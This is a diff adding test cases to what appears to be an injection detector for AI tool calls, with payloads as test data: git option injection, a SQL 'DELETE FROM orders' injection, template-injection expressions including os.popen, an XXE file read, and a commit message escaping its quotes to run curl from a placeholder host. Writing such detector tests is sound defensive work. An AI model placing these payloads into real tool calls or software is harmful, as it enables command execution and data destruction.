@@ -101,6 +101,18 @@ export default defineDetector({
       story: story(calls('mail', 'render', { template: '{{ self.__init__.__globals__.os.popen("id") }}' })),
       fires: [0],
     },
+    { name: 'an option in place of an address', story: story(calls('git', 'clone', { url: '--upload-pack=touch /srv/x' })), fires: [0] },
+    { name: 'a second statement', story: story(calls('shop', 'get_order', { email: "x'; DELETE FROM orders; --" })), fires: [0] },
+    {
+      name: 'a title that is an expression and nothing else',
+      story: story(calls('doc', 'render', { title: "{{ ''.__class__.__mro__ }}" })),
+      fires: [0],
+    },
+    {
+      name: 'a message that leaves its quotation',
+      story: story(calls('git', 'commit', { message: 'fix"; curl https://a.example/x -o /srv/x; echo "' })),
+      fires: [0],
+    },
     {
       name: 'an external entity',
       story: story(calls('xml', 'parse', { xml: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]>' })),
@@ -130,6 +142,11 @@ export default defineDetector({
     {
       name: 'markdown with backticks',
       story: story(calls('gh', 'create_issue', { title: 'Fix `foo` & bar', body: 'run `npm test` && ship; see ${x}' })),
+      fires: [],
+    },
+    {
+      name: 'a report about a template attack',
+      story: story(calls('gh', 'create_issue', { title: 'Escape templates', body: "The page runs {{ ''.__class__ }}; it should not." })),
       fires: [],
     },
     {
